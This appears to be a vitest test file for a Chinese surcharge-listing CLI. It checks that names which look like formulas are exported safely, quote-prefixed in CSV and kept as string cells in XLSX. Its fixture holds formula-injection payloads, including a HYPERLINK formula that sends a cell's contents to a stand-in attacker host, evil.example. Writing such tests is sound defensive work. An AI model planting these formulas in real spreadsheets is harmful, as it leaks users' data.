import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsv } from './support/csv.js';
import { mujun, tempDirectory } from './support/mujun.js';
import { readWorkbook } from './support/xlsx.js';

/**
 * Names a clerk's spreadsheet must show as text: the small surcharge county (tests/fixtures/surcharges)
 * with its enterprises renamed as an attacker (or a careless clerk) would, and one power account that
 * starts with `@`. Every CSV the command writes must read back, row by row, to the right fields with `'`
 * before each formula; every XLSX must hold them as string cells, never formulas.
 */
const FIXTURES = 'tests/fixtures/surcharges';
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"点击查看")';
const RENAMED: readonly (readonly [code: string, name: string, written: string])[] = [
  ['91331003MA2FTC0015', HYPERLINK, `'${HYPERLINK}`],
  ['91331003MA2FTC0028', '+86 黄岩新华纸品厂', "'+86 黄岩新华纸品厂"],
  ['91331003MA2FTC003B', '兴达\r塑料厂', '兴达\r塑料厂'],
  ['91331003MA2FTC004E', '@SUM(A1:A9)五金厂', "'@SUM(A1:A9)五金厂"],
  ['91331003MA2FTC005H', '-1+1 包装厂', "'-1+1 包装厂"],
  ['91331003MA2FTC006L', '＝1+1 机电厂', "'＝1+1 机电厂"],
  ['91331003MA2FTC007P', '-12.5', '-12.5'],
  ['91331003MA2FTC008T', '黄岩远航模塑厂', '黄岩远航模塑厂'],
];
const HOSTILE_ACCOUNT = '@3310040070011';

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

let dir: Awaited<ReturnType<typeof tempDirectory>>;
let data: string;

beforeAll(async () => {
  dir = await tempDirectory();
  // The fixture's lines with each name (the second field) replaced, quoted so that a CR stays inside it.
  const lines = (await readFile(`${FIXTURES}/data-2025.csv`, 'utf8')).split(/\r?\n/);
  const renamed = lines.map((line) => {
    const [code = '', , ...rest] = line.split(',');
    const entry = RENAMED.find(([known]) => known === code);
    if (entry === undefined) return line;
    const cells = rest.map((cell) => (cell === '3310040070011' ? HOSTILE_ACCOUNT : cell));
    return [code, quoted(entry[1]), ...cells].join(',');
  });
  data = join(dir.path, 'data-2025.csv');
  await writeFile(data, renamed.join('\r\n'));
});
afterAll(() => dir.cleanup());

function surcharges(out: string, ...extra: string[]) {
  return mujun(
    'surcharges',
    '--input',
    data,
    '--year',
    '2025',
    '--history',
    `${FIXTURES}/history.csv`,
    '--published',
    '2026-03-15',
    '--doc-no',
    '黄经信〔2026〕12号',
    '--out',
    join(dir.path, out),
    ...extra,
  );
}

/** The file's records by an RFC 4180 reader of the tests' own, BOM dropped. */
async function csvRecords(path: string): Promise<string[][]> {
  const text = await readFile(path, 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return readCsv(text.slice(1));
}

/** Every cell of every sheet that is not empty. */
function everyCell(workbook: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) => {
      row.eachCell((cell) => cells.push(cell));
    });
  return cells;
}

/**
 * No formula anywhere, and each name held by at least one string cell, as it is. A CR comes back as an LF:
 * exceljs writes it raw into the sheet's XML, and XML parsers turn every line end into an LF.
 */
function expectNoFormula(workbook: ExcelJS.Workbook, names: readonly string[]): void {
  const cells = everyCell(workbook);
  expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula)).toEqual([]);
  for (const name of names) {
    const holding = cells.filter((cell) => cell.value === name.replaceAll('\r', '\n'));
    expect(holding.length, name).toBeGreaterThan(0);
    for (const cell of holding) expect(cell.type).toBe(ExcelJS.ValueType.String);
  }
}

describe('mujun grade with formula-like names', () => {
  it('writes result.csv whose every row reads back to its fields, formulas prefixed with a quote', async () => {
    const run = await mujun('grade', '--input', data, '--out', join(dir.path, 'result.csv'));
    expect(run.code, run.stderr).toBe(0);
    const [header = [], ...rows] = await csvRecords(join(dir.path, 'result.csv'));
    expect(rows).toHaveLength(RENAMED.length);
    for (const row of rows) expect(row).toHaveLength(header.length);
    const name = header.indexOf('企业名称');
    const byCode = (a: readonly unknown[], b: readonly unknown[]) => String(a[0]).localeCompare(String(b[0]));
    expect(rows.map((row) => [row[0], row[name]]).sort(byCode)).toEqual(
      RENAMED.map(([code, , written]) => [code, written]),
    );
    // Figures stay numbers: no quote in front of a decimal.
    const total = header.indexOf('总分');
    for (const row of rows) expect(row[total]).toMatch(/^(-?\d+\.\d{2})?$/);
  });

  it('writes result.xlsx with the names as string cells and no formula anywhere', async () => {
    const run = await mujun('grade', '--input', data, '--out', join(dir.path, 'result.xlsx'));
    expect(run.code, run.stderr).toBe(0);
    expectNoFormula(
      await readWorkbook(join(dir.path, 'result.xlsx')),
      RENAMED.map(([, name]) => name),
    );
  });
});

describe('mujun surcharges with formula-like names', () => {
  let rows: string[][];

  beforeAll(async () => {
    const run = await surcharges('list.csv');
    expect(run.code, run.stderr).toBe(0);
    rows = await csvRecords(join(dir.path, 'list.csv'));
  });

  it('writes list.csv whose every row reads back to its 13 fields, formulas prefixed with a quote', () => {
    expect(rows).toHaveLength(6);
    for (const row of rows) expect(row).toHaveLength(13);
    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
      ['91331003MA2FTC0015', `'${HYPERLINK}`, '3310040070001'],
      ['91331003MA2FTC0015', `'${HYPERLINK}`, '3310040070002'],
      ['91331003MA2FTC0028', "'+86 黄岩新华纸品厂", `'${HOSTILE_ACCOUNT}`],
      ['91331003MA2FTC003B', '兴达\r塑料厂', '3310040070021'],
      ['91331003MA2FTC004E', "'@SUM(A1:A9)五金厂", ''],
    ]);
    expect(rows.slice(1).map((row) => row[8])).toEqual(['0.40', '0.40', '0.50', '0.30', '0.30']);
  });

  it('reads its own list back as last year’s: the prefixed account matches, nothing new or removed', async () => {
    const run = await surcharges('again.csv', '--previous', join(dir.path, 'list.csv'));
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain('新增 0、移出 0、加价变化 0 个户号');
  });

  it('writes list.xlsx with the names and the account as string cells and no formula anywhere', async () => {
    const run = await surcharges('list.xlsx');
    expect(run.code, run.stderr).toBe(0);
    expectNoFormula(await readWorkbook(join(dir.path, 'list.xlsx')), [
      HYPERLINK,
      '+86 黄岩新华纸品厂',
      '兴达\r塑料厂',
      '@SUM(A1:A9)五金厂',
      HOSTILE_ACCOUNT,
    ]);
  });
});
